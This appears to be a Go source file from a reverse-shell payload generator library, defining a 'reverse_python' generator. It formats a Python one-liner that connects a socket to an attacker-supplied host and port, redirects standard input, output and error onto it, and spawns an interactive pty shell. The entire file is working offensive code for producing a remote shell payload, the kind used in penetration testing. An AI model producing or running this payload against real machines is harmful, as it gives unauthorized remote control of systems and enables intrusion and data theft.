package unix

import (
	"fmt"
	"strconv"

	"github.com/josephlewis42/revshell/core/payload"
)

// ReversePython spawns a pty over a socket with the Python standard library.
var ReversePython = &payload.Generator{
	Name: "reverse_python",
	Doc:  "Creates an interactive shell with a pty through Python",
	Params: listener(
		payload.Option("python_path", payload.StringValue("python3")),
		payload.Option("shell_path", payload.StringValue("sh")),
	),
	Render: reversePython,
}

func reversePython(lhost string, lport int, opts *payload.OptionSet) (string, error) {
	script := fmt.Sprintf(
		"import os,pty,socket;s=socket.create_connection((%s,%d));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(%s)",
		strconv.Quote(lhost),
		lport,
		strconv.Quote(opts.StringOr("shell_path", "/bin/sh")),
	)

	quoted, err := quote(script)
	if err != nil {
		return "", err
	}
	return opts.StringOr("python_path", "python3") + " -c " + quoted, nil
}
